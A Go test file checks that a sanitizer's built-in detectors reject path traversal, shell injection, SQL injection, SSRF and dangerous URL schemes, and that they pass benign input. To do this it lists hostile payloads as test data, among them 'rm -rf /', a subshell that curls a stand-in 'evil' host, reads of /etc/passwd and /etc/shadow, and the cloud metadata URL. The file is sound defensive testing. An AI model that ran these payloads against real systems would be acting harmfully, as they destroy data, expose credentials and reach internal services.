package sanitize

import (
	"strings"
	"testing"
)

func TestBuiltinDetectorsCatchKnownPayloads(t *testing.T) {
	tests := []struct {
		name     string
		args     map[string]interface{}
		detector string
	}{
		{
			name:     "path traversal unix",
			args:     map[string]interface{}{"path": "../../etc/passwd"},
			detector: DetectorPathTraversal,
		},
		{
			name:     "path traversal encoded",
			args:     map[string]interface{}{"path": "%2e%2e%2fsecret"},
			detector: DetectorPathTraversal,
		},
		{
			name:     "shell chaining",
			args:     map[string]interface{}{"cmd": "ls; rm -rf /"},
			detector: DetectorShellInjection,
		},
		{
			name:     "shell subshell",
			args:     map[string]interface{}{"cmd": "echo $(curl http://evil)"},
			detector: DetectorShellInjection,
		},
		{
			name:     "sql tautology",
			args:     map[string]interface{}{"q": "name = 'x' OR '1'='1'"},
			detector: DetectorSQLInjection,
		},
		{
			name:     "sql union",
			args:     map[string]interface{}{"q": "1 UNION SELECT password FROM users"},
			detector: DetectorSQLInjection,
		},
		{
			name:     "ssrf metadata endpoint",
			args:     map[string]interface{}{"url": "http://169.254.169.254/latest/meta-data/"},
			detector: DetectorSSRF,
		},
		{
			name:     "ssrf localhost",
			args:     map[string]interface{}{"url": "http://localhost:8080/admin"},
			detector: DetectorSSRF,
		},
		{
			name:     "file scheme",
			args:     map[string]interface{}{"url": "file:///etc/shadow"},
			detector: DetectorURLSchemes,
		},
		{
			name:     "javascript scheme",
			args:     map[string]interface{}{"url": "JAVASCRIPT:alert(1)"},
			detector: DetectorURLSchemes,
		},
		{
			name:     "payload in nested value",
			args:     map[string]interface{}{"outer": map[string]interface{}{"inner": "../../x"}},
			detector: DetectorPathTraversal,
		},
	}

	s := newTestSanitizer(t, Config{})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := s.Sanitize(tt.args)
			if !res.Rejected {
				t.Fatalf("Sanitize(%v) not rejected", tt.args)
			}
			want := `Built-in detector "` + tt.detector + `"`
			if !strings.Contains(res.RejectionReason, want) {
				t.Errorf("reason = %q, want mention of %s", res.RejectionReason, tt.detector)
			}
		})
	}
}

func TestBuiltinDetectorsPassBenignInput(t *testing.T) {
	tests := []struct {
		name string
		args map[string]interface{}
	}{
		{name: "plain prose", args: map[string]interface{}{"q": "summarize the quarterly report"}},
		{name: "normal path", args: map[string]interface{}{"path": "docs/report.md"}},
		{name: "https url", args: map[string]interface{}{"url": "https://example.com/api/v1"}},
		{name: "sql-ish prose", args: map[string]interface{}{"q": "select the best option and update me"}},
		{name: "version string", args: map[string]interface{}{"v": "release 1.7.2.9 shipped"}},
	}

	s := newTestSanitizer(t, Config{})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if res := s.Sanitize(tt.args); res.Rejected {
				t.Errorf("Sanitize(%v) rejected: %s", tt.args, res.RejectionReason)
			}
		})
	}
}

func TestSelectDetectorsSubset(t *testing.T) {
	s := newTestSanitizer(t, Config{BuiltinDetectors: []string{DetectorSSRF}})

	// Enabled detector still fires.
	if res := s.Sanitize(map[string]interface{}{"url": "http://127.0.0.1/"}); !res.Rejected {
		t.Error("ssrf detector should fire")
	}
	// Disabled detector does not.
	if res := s.Sanitize(map[string]interface{}{"path": "../../etc/passwd"}); res.Rejected {
		t.Errorf("path_traversal should be disabled, got %s", res.RejectionReason)
	}
}

func TestDetectorNamesOrder(t *testing.T) {
	names := DetectorNames()
	want := []string{
		DetectorPathTraversal,
		DetectorShellInjection,
		DetectorSQLInjection,
		DetectorSSRF,
		DetectorURLSchemes,
	}
	if len(names) != len(want) {
		t.Fatalf("len = %d, want %d", len(names), len(want))
	}
	for i := range want {
		if names[i] != want[i] {
			t.Errorf("names[%d] = %s, want %s", i, names[i], want[i])
		}
	}
}
